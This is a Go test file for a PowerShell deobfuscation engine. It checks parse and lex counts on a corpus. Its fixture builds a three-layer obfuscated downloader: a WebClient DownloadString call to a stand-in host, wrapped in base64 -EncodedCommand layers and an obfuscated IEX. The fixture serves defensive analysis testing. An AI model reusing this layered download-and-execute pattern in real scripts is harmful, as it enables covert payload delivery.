package psfront

import (
	"encoding/base64"
	"fmt"
	"strings"
	"testing"

	"github.com/invoke-deobfuscation/invokedeob/internal/core"
	"github.com/invoke-deobfuscation/invokedeob/internal/corpus"
	"github.com/invoke-deobfuscation/invokedeob/internal/psparser"
	"github.com/invoke-deobfuscation/invokedeob/internal/pstoken"
)

// encodeUTF16LEBase64 encodes a script the way PowerShell's
// -EncodedCommand expects: UTF-16LE bytes, then standard base64.
func encodeUTF16LEBase64(s string) string {
	buf := make([]byte, 0, len(s)*2)
	for _, r := range s {
		if r > 0xFFFF {
			r = '?'
		}
		buf = append(buf, byte(r), byte(r>>8))
	}
	return base64.StdEncoding.EncodeToString(buf)
}

// threeLayerScript builds a fixed 3-layer obfuscated script: an inner
// downloader wrapped in powershell -EncodedCommand, wrapped in a
// string-concat IEX, wrapped in another -EncodedCommand. Every layer
// forces the engine through token parsing, recovery, and unwrap.
func threeLayerScript() string {
	inner := "$u = 'http://layer.test/payload.ps1'\n" +
		"(New-Object Net.WebClient).DownloadString($u)\n"
	layer2 := "powershell -EncodedCommand " + encodeUTF16LEBase64(inner)
	layer1 := "I`eX ('" + strings.ReplaceAll(layer2, "'", "''") + "')"
	return "powershell -enc " + encodeUTF16LEBase64(layer1) + "\n"
}

// parseBudget is the ceiling on full psparser.Parse invocations for one
// default-options run over threeLayerScript. With static literal probes
// and the merged payload validity gates the run measures exactly 9, one
// per distinct text the engine must actually analyze: the source, two
// decoded payloads, three token-phase rewrites, two layers the ast
// phase rebuilt, and the renamed output. Each replacement batch
// rebuilds its layer's text and parses it once. One rebuilt layer is
// the innermost payload with its variable inlined; the other is the
// outer layer around that payload, which is the payload plus the
// wrapper's trailing newline. The budget is that measurement, so a
// parse per replacement or per probe fails loudly.
const parseBudget = 9

// preRefactorParseCount is the measured parse count of the seed engine
// (PR 1, pre-pipeline) on threeLayerScript, recorded before the
// refactor. Kept as a constant so the ≥2× amortization claim stays
// checkable.
const preRefactorParseCount = 55

func TestParseCountBudget(t *testing.T) {
	script := threeLayerScript()
	d := core.New(core.Options{Lang: "powershell"})
	// Warm-up run outside the measurement so one-time costs don't skew.
	if _, err := d.Deobfuscate(script); err != nil {
		t.Fatalf("warm-up: %v", err)
	}
	before := psparser.ParseCalls()
	res, err := d.Deobfuscate(script)
	after := psparser.ParseCalls()
	if err != nil {
		t.Fatalf("Deobfuscate: %v", err)
	}
	if !strings.Contains(res.Script, "http://layer.test/payload.ps1") {
		t.Fatalf("3-layer script not recovered:\n%s", res.Script)
	}
	parses := after - before
	t.Logf("parses per run: %d (pre-refactor engine: %d)", parses, preRefactorParseCount)
	if parses > parseBudget {
		t.Errorf("parse amortization regressed: %d parses per run, budget %d "+
			"(a parse per replacement or per probe?)", parses, parseBudget)
	}
	if parses*2 > preRefactorParseCount {
		t.Errorf("parse count %d is not ≥2× below the pre-refactor engine's %d",
			parses, preRefactorParseCount)
	}
}

// lexBudget is the ceiling on pstoken.Tokenize invocations for one
// default-options run over threeLayerScript: its number of distinct
// lexed texts. The parse cache parses each text from its cached token
// stream, so every text is lexed once; a consumer that lexes a text the
// cache already holds, or a parse that lexes again, fails this. The
// run lexes the nine texts parseBudget counts, and the Invoke-Expression
// payload before the token phase rewrote it.
const lexBudget = 10

// corpusLexBudget is the same ceiling summed over the 24-sample corpus
// of the equivalence suite, one fresh Deobfuscator per script: the
// number of distinct texts its runs lex. The count includes the
// sub-texts the parser and the interpreter lex directly (expandable
// string subexpressions, the snippets of pieces that parse their
// text). A replacement batch lexes its rebuilt layer once, for the
// validity parse.
const corpusLexBudget = 215

func TestLexCountBudget(t *testing.T) {
	script := threeLayerScript()
	d := core.New(core.Options{Lang: "powershell"})
	if _, err := d.Deobfuscate(script); err != nil {
		t.Fatalf("warm-up: %v", err)
	}
	before := pstoken.TokenizeCalls()
	if _, err := d.Deobfuscate(script); err != nil {
		t.Fatalf("Deobfuscate: %v", err)
	}
	if lexes := pstoken.TokenizeCalls() - before; lexes > lexBudget {
		t.Errorf("threeLayerScript lexed %d times per run, budget %d (one per distinct text)", lexes, lexBudget)
	}

	var lexes int64
	for i, s := range corpus.Generate(corpus.Config{Seed: 20220627, N: 24, MaxL3Layers: 3}) {
		d := core.New(core.Options{Lang: "powershell"})
		before := pstoken.TokenizeCalls()
		if _, err := d.Deobfuscate(s.Source); err != nil {
			t.Fatalf("corpus_%02d: %v", i, err)
		}
		lexes += pstoken.TokenizeCalls() - before
	}
	if lexes > corpusLexBudget {
		t.Errorf("the corpus lexed %d times, budget %d (one per distinct text)", lexes, corpusLexBudget)
	}
}

// corpusParseBudget is the ceiling on psparser parses summed over the
// same corpus, one fresh Deobfuscator per script. Pieces evaluate on
// the subtree the run already parsed, so the parses left are the
// layers, the rewritten texts the passes validate (one parse of each
// replacement batch's rebuilt layer), and the pieces that fall back to
// parsing their text.
const corpusParseBudget = 183

// TestParseCountCorpusBudget holds the corpus to corpusParseBudget: a
// change that makes evaluated pieces parse their text again, or that
// adds a parse per piece or per replacement, fails it.
func TestParseCountCorpusBudget(t *testing.T) {
	var parses int64
	for i, s := range corpus.Generate(corpus.Config{Seed: 20220627, N: 24, MaxL3Layers: 3}) {
		d := core.New(core.Options{Lang: "powershell"})
		before := psparser.ParseCalls()
		if _, err := d.Deobfuscate(s.Source); err != nil {
			t.Fatalf("corpus_%02d: %v", i, err)
		}
		parses += psparser.ParseCalls() - before
	}
	t.Logf("the corpus parsed %d times", parses)
	if parses > corpusParseBudget {
		t.Errorf("the corpus parsed %d times, budget %d (evaluated pieces parsing their text again?)", parses, corpusParseBudget)
	}
}

// TestParseCountReportsAllInputs prints (verbose mode) the per-input
// parse counts over the deterministic corpus — a quick profiling aid,
// not an assertion. The corpus parameters pin the same inputs as the
// core equivalence suite.
func TestParseCountReportsAllInputs(t *testing.T) {
	if testing.Short() {
		t.Skip("profiling aid")
	}
	samples := corpus.Generate(corpus.Config{Seed: 20220627, N: 24, MaxL3Layers: 3})
	d := core.New(core.Options{Lang: "powershell"})
	var total int64
	for i, s := range samples {
		before := psparser.ParseCalls()
		if _, err := d.Deobfuscate(s.Source); err != nil {
			t.Fatalf("corpus_%02d: %v", i, err)
		}
		total += psparser.ParseCalls() - before
	}
	t.Log(fmt.Sprintf("total parses across %d corpus scripts: %d", len(samples), total))
}
